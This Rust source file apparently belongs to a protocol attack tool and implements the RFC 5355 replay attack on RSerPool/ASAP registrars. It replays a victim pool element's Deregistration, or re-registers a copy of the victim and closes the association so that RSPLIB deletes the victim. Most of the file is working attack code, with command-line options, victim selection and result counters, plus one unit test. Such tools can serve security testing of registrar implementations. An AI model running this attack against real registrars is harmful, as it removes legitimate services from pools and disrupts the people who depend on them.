//! `replay` (RFC 5355 §2.8): a victim PE's own (de)registration sent again
//! from another association, the attacker's. `deregistration` sends the
//! victim's Deregistration; `registration` sends a copy of its
//! Registration (its identifier, user transport and policy, as a Handle
//! Resolution shows them), waits for the answer and closes the
//! association: RSPLIB moves a registration to the association it last
//! arrived on and deletes a PE when that association ends.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use anyhow::Result;
use client_core::policy::Rng;
use client_core::wire::{AsapMessage, PoolElement, PoolHandle, ServerId};
use rserpool_sctp::SctpAssociation;

use super::{Act, Attack, Common, Ctx};
use crate::fields;
use crate::messages::{self, parse_pe_id};
use crate::net;
use crate::output::Output;
use crate::stop::Stop;

/// What is replayed.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Mode {
    /// The victim's Deregistration, on the attacker's association.
    Deregistration,
    /// A copy of the victim's Registration on a fresh association of the
    /// attacker's, which is then closed.
    Registration,
}

#[derive(Clone, Debug, clap::Args)]
pub struct Args {
    /// Registrars' ASAP endpoints (actions go to them in turn).
    #[command(flatten)]
    pub common: Common,
    /// The victim PE (hex 0x… or decimal). Default: one of the PEs the
    /// first target resolves, chosen by the seed.
    #[arg(long = "pe-id", value_name = "ID", value_parser = parse_pe_id)]
    pub pe_id: Option<u32>,
    /// What to replay.
    #[arg(long, value_enum, default_value = "deregistration")]
    pub mode: Mode,
}

/// The Registration a PE sent, as far as a resolution shows it: what a
/// replay sends again (the home registrar is the receiver's to fill in;
/// ASAP carries no registrator transport).
pub fn registration_copy(resolved: &PoolElement) -> PoolElement {
    PoolElement {
        home_registrar: ServerId(0),
        registrator_transport: None,
        ..resolved.clone()
    }
}

#[derive(Default)]
struct Answers {
    accepted: AtomicU64,
    refused: AtomicU64,
}

struct Replay {
    mode: Mode,
    pool: PoolHandle,
    victim: PoolElement,
    targets: Vec<SocketAddr>,
    /// One association per target for deregistrations.
    assocs: Vec<Arc<SctpAssociation>>,
    answers: Arc<Answers>,
}

impl Attack for Replay {
    async fn act(&mut self, seq: u64, _rng: &mut Rng, _out: &Output) -> Result<Act> {
        let t = (seq % self.targets.len() as u64) as usize;
        let id = self.victim.id;
        let accepted = match self.mode {
            Mode::Deregistration => {
                net::send_asap(&self.assocs[t], &messages::deregistration(&self.pool, id.0))
                    .await?;
                None
            }
            Mode::Registration => {
                let assoc = net::connect(None, self.targets[t]).await?;
                let copy = registration_copy(&self.victim);
                net::send_asap(&assoc, &messages::registration(&self.pool, copy)).await?;
                let answer = tokio::time::timeout(net::CONNECT_TIMEOUT, async {
                    loop {
                        if let AsapMessage::RegistrationResponse(r) = net::recv_asap(&assoc).await?
                        {
                            return Ok::<_, anyhow::Error>(!r.rejected);
                        }
                    }
                })
                .await;
                let ok = matches!(answer, Ok(Ok(true)));
                let counter = if ok {
                    &self.answers.accepted
                } else {
                    &self.answers.refused
                };
                counter.fetch_add(1, Ordering::Relaxed);
                // The registrar now ties the victim to this association:
                // ending it makes the registrar delete the victim.
                let _ = assoc.shutdown();
                Some(ok)
            }
        };
        let mut f = fields! {
            "pe_id" => id.to_string(),
            "target" => self.targets[t].to_string(),
        };
        if let Some(ok) = accepted {
            f.insert("accepted".into(), ok.into());
        }
        let name = match self.mode {
            Mode::Deregistration => "replay-deregistration",
            Mode::Registration => "replay-registration",
        };
        Ok((name, f))
    }
}

pub async fn run(a: Args, stop: Stop) -> Result<()> {
    let mut ctx = Ctx::new(&a.common, stop);
    let targets = ctx.targets.clone();
    let pool = ctx.pool.clone();
    let want = a.pe_id;
    let mode = a.mode;
    let mut rng = Rng::new(ctx.rng.next_u64());
    let Some((assocs, victim)) = ctx
        .setup(async {
            let first = net::connect(None, targets[0]).await?;
            let listed = net::resolve_all(&first, &pool).await?;
            let victim = super::pick_victim(listed, want, &pool, &mut rng)?;
            let mut assocs = vec![Arc::new(first)];
            if mode == Mode::Deregistration {
                for t in &targets[1..] {
                    assocs.push(Arc::new(net::connect(None, *t).await?));
                }
            }
            Ok((assocs, victim))
        })
        .await
    else {
        return Ok(());
    };
    ctx.out
        .event("victims", serde_json::json!([victim.id.to_string()]));
    let answers = Arc::new(Answers::default());
    // Deregistration Responses on the standing associations.
    let readers: Vec<_> = if mode == Mode::Deregistration {
        assocs
            .iter()
            .map(|assoc| {
                let (assoc, answers) = (assoc.clone(), answers.clone());
                tokio::spawn(async move {
                    while let Ok(m) = net::recv_asap(&assoc).await {
                        if let AsapMessage::DeregistrationResponse(r) = m {
                            let c = if r.error.is_some() {
                                &answers.refused
                            } else {
                                &answers.accepted
                            };
                            c.fetch_add(1, Ordering::Relaxed);
                        }
                    }
                })
            })
            .collect()
    } else {
        Vec::new()
    };
    let mut attack = Replay {
        mode,
        pool,
        victim,
        targets,
        assocs,
        answers: answers.clone(),
    };
    let f = super::run_paced(&mut attack, &mut ctx, false).await;
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    for r in readers {
        r.abort();
    }
    super::done(
        &ctx,
        f,
        fields! {
            "accepted" => answers.accepted.load(Ordering::Relaxed),
            "refused" => answers.refused.load(Ordering::Relaxed),
        },
    );
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use client_core::wire::{SelectionPolicy, TransportAddress};

    #[test]
    fn a_registration_copy_keeps_what_the_pe_registered_and_drops_what_registrars_add() {
        let mut resolved = messages::pool_element(
            0x0e00_0001,
            vec!["10.1.0.1".parse().unwrap(), "10.0.2.15".parse().unwrap()],
            56661,
            SelectionPolicy::LeastUsed { load: 7 },
            90_000,
        );
        resolved.home_registrar = ServerId(0x1000_0001);
        resolved.registrator_transport = Some(TransportAddress::sctp(37056, 0, vec![]));
        let copy = registration_copy(&resolved);
        assert_eq!(copy.id, resolved.id);
        assert_eq!(copy.user_transport, resolved.user_transport);
        assert_eq!(copy.policy, resolved.policy);
        assert_eq!(copy.registration_life_ms, 90_000);
        assert_eq!(copy.home_registrar, ServerId(0));
        assert!(copy.registrator_transport.is_none());
        // What goes on the wire is the victim's own registration.
        let original = messages::pool_element(
            0x0e00_0001,
            vec!["10.1.0.1".parse().unwrap(), "10.0.2.15".parse().unwrap()],
            56661,
            SelectionPolicy::LeastUsed { load: 7 },
            90_000,
        );
        let pool = PoolHandle::from("EchoPool");
        assert_eq!(
            messages::registration(&pool, copy),
            messages::registration(&pool, original)
        );
    }
}
